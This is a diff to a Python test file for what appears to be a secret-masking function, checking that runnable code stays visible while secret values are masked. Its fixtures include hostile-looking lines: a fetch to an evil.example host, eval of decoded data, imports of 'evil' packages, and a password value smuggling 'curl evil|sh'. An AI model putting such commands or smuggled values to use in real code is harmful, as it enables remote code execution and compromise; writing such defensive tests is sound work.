@@ -62,6 +62,16 @@ def seen(path: str, text: str, *others: str) -> str:
         ("app.ts", "import token from 'evil9pkg-x1a';"),
         ("app.py", f"password = os.{RANDOM}('x')"),
         ("app.py", f"def {RANDOM}(): evil()"),
+        ("app.py", f'subprocess.run(["npx", "--token", "{RANDOM}"])'),
+        ("app.js", f'execSync("npm i --secret {RANDOM}")'),
+        ("app.js", f'eval(atob("{RANDOM}{RANDOM}"))'),
+        ("app.js", f'import("{RANDOM}{RANDOM}")'),
+        ("app.py", f'__import__("{RANDOM}")'),
+        ("app.go", 'import secret "github.com/evil1/pkg2"'),
+        ("values.yaml", f"secretImage: evil/{RANDOM}"),
+        ("action.yml", f"    - uses: evil/action@{RANDOM}\n      with:\n        token: {RANDOM}"),
+        ("app.html", f'<script src="https://x.example/{RANDOM}.js"></script>'),
+        ("app.js", f"fetch('https://evil.example/{RANDOM}')"),
     ],
 )
 def test_what_runs_or_is_installed_stays_in_sight(path: str, text: str) -> None:
@@ -106,7 +116,7 @@ def test_a_value_that_is_code_elsewhere_is_masked_only_where_it_is_a_value(given
             'create-secret: "xxxx -x xxxxx://xxxx.xxxxxxx/x0 | xx"',
         ),
         ("app.py", 'DB_PASSWORD="a1`curl evil|sh`"', 'DB_PASSWORD="x0`xxxx xxxx|xx`"'),
-        ("app.py", '// password = "x9y8?><?=system(1)"', '// password = "x0x0?><?=xxxxxx(0)"'),
+        ("app.py", '// password = "x9y8?><?=print1(1)"', '// password = "x0x0?><?=xxxxx0(0)"'),
         ("app.py", "password = 'a1b2\";evil(1);x=\"'", "password = 'x0x0\";xxxx(0);x=\"'"),
         ("app.swift", 'let password = "a1\\(evil(1))"', 'let password = "x0\\(xxxx(0))"'),
     ],
@@ -115,9 +125,23 @@ def test_a_masked_value_keeps_its_structure(path: str, text: str, expected: str)
     assert seen(path, text) == expected
 
 
-def test_code_between_the_edges_of_a_key_stays_or_keeps_its_structure() -> None:
-    code = "# -----BEGIN PRIVATE KEY-----\nimport os\nos.system('x')\n/opt/evil/run1\n# -----END PRIVATE KEY-----"
-    assert seen("app.py", code) == code
+@pytest.mark.parametrize(
+    "lines",
+    [
+        "import os\nos.system('x')\n/opt/evil/run1",
+        "evilcommandwithalongname1\nreboot",
+        "evilCommandWithALongName22\n/opt/evil/run1\nreboot",
+        "grantAdministratorAccessToEveryoneNow1",
+        "thisIsTheNameOfAProgramThatHasExactlySixtyFourLettersAndDigits01",
+    ],
+)
+def test_code_between_the_edges_of_a_key_stays(lines: str) -> None:
+    for sign in ("", "# "):
+        code = f"{sign}-----BEGIN PRIVATE KEY-----\n{lines}\n{sign}-----END PRIVATE KEY-----"
+        assert seen("run.sh", code) == code
+    key = RSA_KEY.split("\n")[1:3]
+    code = "\n".join(["-----BEGIN PRIVATE KEY-----", *key, *lines.split("\n"), "-----END PRIVATE KEY-----"])
+    assert seen("run.sh", code).split("\n")[3:-1] == lines.split("\n")
 
 
 def test_a_token_is_known_where_code_runs_too() -> None:
